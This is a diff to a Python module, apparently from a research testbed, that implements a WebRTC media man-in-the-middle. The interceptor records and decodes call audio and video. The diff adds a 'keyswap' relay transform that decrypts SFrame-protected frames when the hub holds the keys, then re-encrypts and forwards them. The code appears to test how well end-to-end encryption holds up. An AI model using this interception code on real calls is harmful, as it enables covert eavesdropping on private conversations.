@@ -9,7 +9,9 @@ MITM instead of a decoder. The MITM records the frame (it is what SRTP decryptio
 forwards it unchanged, as a pre-encoded `av.Packet`, to a track on the other leg, so the call keeps
 working. Afterwards it tries real Opus and VP8 decoders on what it recorded: against plain WebRTC
 that recovers the call; against SFrame it recovers nothing, because what SRTP protected was
-already end-to-end ciphertext.
+already end-to-end ciphertext, unless the hub also holds the SFrame keys (the keyswap attack): then
+a `RelayTransform` opens each frame from one leg (what is recorded and decoded) and seals it again
+for the other.
 
 Only `client.frame_transform` touches aiortc internals; this module uses its public API.
 """
@@ -25,7 +27,7 @@ from collections.abc import Callable, Iterable
 from dataclasses import dataclass, field
 from fractions import Fraction
 from pathlib import Path
-from typing import Literal
+from typing import Literal, Protocol
 
 import av
 from aiortc import (
@@ -96,6 +98,17 @@ class Direction(enum.Enum):
 
     OFFERER_TO_ANSWERER = "offerer-to-answerer"
     ANSWERER_TO_OFFERER = "answerer-to-offerer"
+
+
+class RelayTransform(Protocol):
+    """What the MITM does to each frame between its legs (keyswap: SFrame off, then on again)."""
+
+    def open(self, direction: Direction, kind: Kind, frame: bytes) -> bytes | None:
+        """The frame as the MITM can read it (recorded, decoded and forwarded), or None if it
+        cannot: then the frame is recorded as received and not forwarded."""
+
+    def seal(self, direction: Direction, kind: Kind, frame: bytes) -> bytes | None:
+        """What an opened frame becomes on the destination leg; None drops it."""
 
 
 @dataclass(frozen=True)
@@ -287,6 +300,7 @@ class _Route:
     outgoing: PacketRelayTrack
     destination: RTCPeerConnection
     timestamper: _Timestamper
+    transform: RelayTransform | None = None
     # Set once a readable VP8 keyframe went by: the stream is plain VP8, not SFrame ciphertext.
     plain_vp8: bool = False
     keyframe_forwarded: bool = False
@@ -305,7 +319,10 @@ class _Route:
             return False
         if self.plain_vp8 and not self.keyframe_forwarded and not keyframe:
             return False
-        if not self.outgoing.push(self.timestamper.stamp(data)):
+        sealed = (
+            data if self.transform is None else self.transform.seal(self.direction, self.kind, data)
+        )
+        if sealed is None or not self.outgoing.push(self.timestamper.stamp(sealed)):
             return False
         self.keyframe_forwarded = self.keyframe_forwarded or keyframe
         return True
@@ -323,6 +340,9 @@ class MediaMitm:
     Drive it from the hub's SDP relay: `intercept_offer` turns the offerer's offer into the MITM's
     offer for the answerer, `intercept_answer` turns the answerer's answer into the MITM's answer
     for the offerer. Candidates are gathered before each SDP is returned (no trickle ICE).
+
+    `relay_transform`: applied to every frame between the legs (opened before it is recorded and
+    decoded, sealed again before it is forwarded); without it frames are relayed as received.
     """
 
     def __init__(
@@ -331,6 +351,7 @@ class MediaMitm:
         configuration: RTCConfiguration | None = None,
         max_recorded_bytes: int = 64 * 2**20,
         max_queued_frames: int = 64,
+        relay_transform: RelayTransform | None = None,
     ) -> None:
         # aiortc falls back to a public STUN server when given no configuration; a hub attacking
         # calls on its own network needs none, and must not stall on an unreachable one.
@@ -339,6 +360,7 @@ class MediaMitm:
         self._toward_answerer = RTCPeerConnection(config)
         self._max_recorded_bytes = max_recorded_bytes
         self._max_queued_frames = max_queued_frames
+        self._relay_transform = relay_transform
         self._loop = asyncio.get_running_loop()
         self._started_at = self._loop.time()
         self._routes: list[_Route] = []
@@ -463,6 +485,7 @@ class MediaMitm:
                     outgoing=relays[destination],
                     destination=destination,
                     timestamper=_Timestamper(kind, self._loop.time),
+                    transform=self._relay_transform,
                 )
             )
 
@@ -502,7 +525,11 @@ class MediaMitm:
         return True
 
     def _relay(self, route: _Route, data: bytes) -> None:
-        forwarded = route.forward(data)
+        if route.transform is not None:
+            opened = route.transform.open(route.direction, route.kind, data)
+            data, forwarded = (data, False) if opened is None else (opened, route.forward(opened))
+        else:
+            forwarded = route.forward(data)
         if not self._reserve(len(data)):
             return
         self._frames.append(
